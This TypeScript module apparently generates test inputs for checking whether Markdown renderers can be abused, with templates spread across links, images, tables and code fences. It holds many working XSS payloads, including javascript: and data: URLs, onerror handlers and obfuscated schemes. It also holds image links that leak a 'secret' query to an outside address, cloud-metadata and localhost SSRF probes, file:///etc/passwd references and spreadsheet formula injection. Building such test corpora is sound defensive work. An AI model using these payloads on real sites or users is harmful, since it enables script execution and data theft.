/** Markdown that hides an address, loads something, or breaks out of the place where it stands. */
import { asEntities, type Sketch } from '../sketch.ts';

const links: readonly Sketch[] = [
  (code) => `[x][r]\n\n[r]: javascript:${code}`,
  (code) => `[r]\n\n[r]: <javascript:${code}> "title"`,
  (code) => `[r][]\n\n[r]:\n  javascript:${code}\n  'a title'`,
  (code) => `[R]\n\n> [r]: java&#115;cript:${code}`,
  (code) => `[r]\n\n[r]: https://ok.example\n[r]: javascript:${code}`,
  (code) => `[__proto__]\n\n[__proto__]: javascript:${code}`,
  (code) => `[constructor]\n\n[constructor]: data:text/html,<script>${code}</script>`,
  (code) => `[a [b](javascript:${code}) c](https://ok.example)`,
  (code) => `[![x](javascript:${code})](javascript:${code})`,
  (code) => `[x](https://ok.example "\\" onmouseover=\\"${code}\\" x=\\"")`,
  (code) => `[x](https://ok.example '"><img src=x onerror=${code}>')`,
  (code) => `[<img src=x onerror=${code}>](https://ok.example)`,
  (code) => `[x](<javascript:${code}>)`,
  (code) => `[x](  javascript:${code}  )`,
  (code) => `[x](\njavascript:${code}\n)`,
  (code) => `[x](javascript:${code} (title))`,
  (code) => `[x](${asEntities('javascript:')}${code})`,
  (code) => `[x](j\\a\\vascript\\:${code})`,
  (code) => `<javascript:${code}>`,
  (code) => `<JaVaScRiPt:${code}>`,
  (code) => `<data:text/html,${code}>`,
  (code) => `<https://ok.example/"onmouseover="${code}>`,
  (code) => `<x@evil.example"onclick="${code}>`,
  (code) => `https://ok.example/"onmouseover="${code}`,
  (code) => `www.evil.example/<img/src/onerror=${code}>`,
  (code) => `xmpp:x@evil.example/${code} mailto:x@evil.example`,
  (code) => `javascript:${code} file:///etc/passwd`,
  (code) => `[x]( javascript:${code} "a\n\nb")`,
  (code) => `*[x](javascript:${code}*) **[y](vbscript:${code}**)`,
  (code) => `~~[x](javascript:${code})~~ ==[y](javascript:${code})==`,
  (code) => `- [ ] [x](javascript:${code})\n- [x] <img src=x onerror=${code}>`,
  (code) => `1. > - [x](javascript:${code})\n   > <script>${code}</script>`,
  (code) => `# [x](javascript:${code}) <a id=x name=y onclick=${code}>`,
  (code) => `## x {#location onclick=${code}}`,
  (code) => `[x](javascript:${code}){target=_self onclick=${code}}`,
  (code) => `[^1]: <img src=x onerror=${code}>\n\nx[^1]`,
  (code) => `x[^__proto__] y[^"onclick=${code}]\n\n[^__proto__]: [x](javascript:${code})`,
  (code) => `x^[inline <img src=x onerror=${code}> note]`,
  (code) => `*[HTML]: <img src=x onerror=${code}>\n\nHTML`,
  (code) => `x\n: <img src=x onerror=${code}>`,
  (code) => `:::warning onclick=${code}\n<img src=x onerror=${code}>\n:::`,
  (code) => `---\ntitle: <img src=x onerror=${code}>\n---\nx`,
  (code) => `{% raw %}<script>${code}</script>{% endraw %} {{constructor.constructor('${code}')()}}`,
  (code) => `{@html '<img src=x onerror=${code}>'} \${${code}} {${code}}`,
];

const images: readonly Sketch[] = [
  (_, address) => `![x](${address}.png)`,
  (_, address) => `![x](${address}?q=secret "title")`,
  (_, address) => `![x][leak]\n\n[leak]: ${address}/chart?d=secret`,
  (_, address) => `![leak]\n\n[leak]: <${address}/chart?d=secret> "x"`,
  (_, address) => `[![x](${address}.png)](${address})`,
  (_, address) => `![x](//${new URL(address).host}/x.png) ![y](/x.png) ![z](x.png)`,
  () => `![x](HTTPS://EVIL.EXAMPLE/x.png) ![y](h&#116;tps://evil.example/y.png)`,
  (_, address) =>
    `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${address}"/></svg>)`,
  (code) =>
    `![x](data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22${code}%22/%3E)`,
  (code) =>
    `![x](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg"><script>${code}</script></svg>`)})`,
  (code) => `![x](data:text/html,<script>${code}</script>)`,
  (code) => `![x](data:image/png;base64,${btoa(`<script>${code}</script>`)})`,
  (code) => `![x](javascript:${code})`,
  (code) => `![x](x "\\" onerror=\\"${code}")`,
  (code) => `!["onerror="${code}](x)`,
  (code) => `![<img src=x onerror=${code}>](x)`,
  () => '![x](file:///etc/passwd) ![y](app://bundle/index.html) ![z](blob:x)',
  () => '![x](sandbox:/mnt/data/x.png) ![y](attachment:x) ![z](cid:x)',
  () => '![x](http://127.0.0.1:9/x.png) ![y](http://169.254.169.254/latest/meta-data)',
  () => '![x](http://localhost/x.png =100x100) ![y](https://evil.example/a b.png)',
  (_, address) => `- ![x](${address}.png)\n\n> ![y](${address}.gif)\n\n# ![z](${address}.jpg)`,
];

const tables: readonly Sketch[] = [
  (code) =>
    `| <img src=x onerror=${code}> | b |\n| :-: | - |\n| [x](javascript:${code}) | <svg onload=${code}> |`,
  (code) => `a | b\n-|-\n\`|\` <script>${code}</script> | ![x](javascript:${code})`,
  (code) => `| a |\n| - |\n| \\| <img src=x onerror=${code}> |`,
  (code) => `| a |\n| :- " onclick=${code} |\n| b |`,
  (code) => `|a|\n|:-:|\n|x|\n<tr onclick=${code}><td>`,
  (_, address) => `| ![x](${address}.png) |\n| - |\n| ![y](${address}-2.png) |`,
  (code) => `| =HYPERLINK("javascript:${code}") | =cmd\\|'/c calc'!A1 |\n| - | - |\n| +1 | @x |`,
  (code) => `> | a |\n> | - |\n> | <a href="javascript:${code}">x</a> |`,
  (code) => `| ${'|'.repeat(200)}\n| ${'-|'.repeat(200)}\n| <img src=x onerror=${code}> |`,
];

const fences: readonly Sketch[] = [
  ...[
    'html',
    'svg',
    'xml',
    'js',
    'javascript',
    'jsx',
    'vue',
    'svelte',
    'css',
    'http',
    'math',
    'latex',
    'markdown',
  ].map(
    (language): Sketch =>
      (code) =>
        `\`\`\`${language}\n<img src=x onerror=${code}><script>${code}</script>\n\`\`\``,
  ),
  (code) => `\`\`\`"><img src=x onerror=${code}>\nx\n\`\`\``,
  (code) => `\`\`\`js" onclick="${code}\nx\n\`\`\``,
  (code) => `~~~ js title="<img src=x onerror=${code}>" {1,3} \`\`\`\nx\n~~~`,
  (code) => `\`\`\`__proto__\n<img src=x onerror=${code}>\n\`\`\``,
  (code) => `\`\`\`constructor\n${code}\n\`\`\``,
  (code) => `\`\`\`../../../etc/passwd\n${code}\n\`\`\``,
  (code) => `\`\`\`javascript:${code}\n${code}\n\`\`\``,
  (code) => `\`\`\`${'a'.repeat(300)}\n${code}\n\`\`\``,
  (code) => `\`\`\`\u202elmth\n<img src=x onerror=${code}>\n\`\`\``,
  (code) => `\`\`\`html run\n<script>${code}</script>`,
  (code) => `    <script>${code}</script>\n\n\t<img src=x onerror=${code}>`,
  (code) => `\`\`\`ansi\n\u001b]8;;javascript:${code}\u0007x\u001b]8;;\u0007\u001b[31m\n\`\`\``,
  (code) => `\`<img src=x onerror=${code}>\` \`\`<svg onload=${code}>\`\``,
  (code) =>
    `\`\`\`html\n</code></pre><img src=x onerror=${code}>\n\`\`\`\n</code></pre><img src=x onerror=${code}>`,
];

export const markdown: readonly Sketch[] = [...links, ...images, ...tables, ...fences];
